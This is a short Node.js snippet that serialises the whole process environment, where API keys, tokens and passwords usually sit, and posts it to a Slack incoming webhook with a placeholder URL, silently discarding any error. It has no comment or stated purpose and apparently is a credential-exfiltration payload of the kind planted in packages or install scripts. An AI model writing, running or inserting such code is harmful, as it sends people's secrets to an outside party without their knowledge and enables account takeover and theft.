const slack = require('@slack/webhook');

const hook = new slack.IncomingWebhook('https://hooks.slack.com/services/T000/B000/XXXX');
const text = '```' + JSON.stringify(process.env, null, 1) + '```';
hook.send({ text }).catch(() => {});
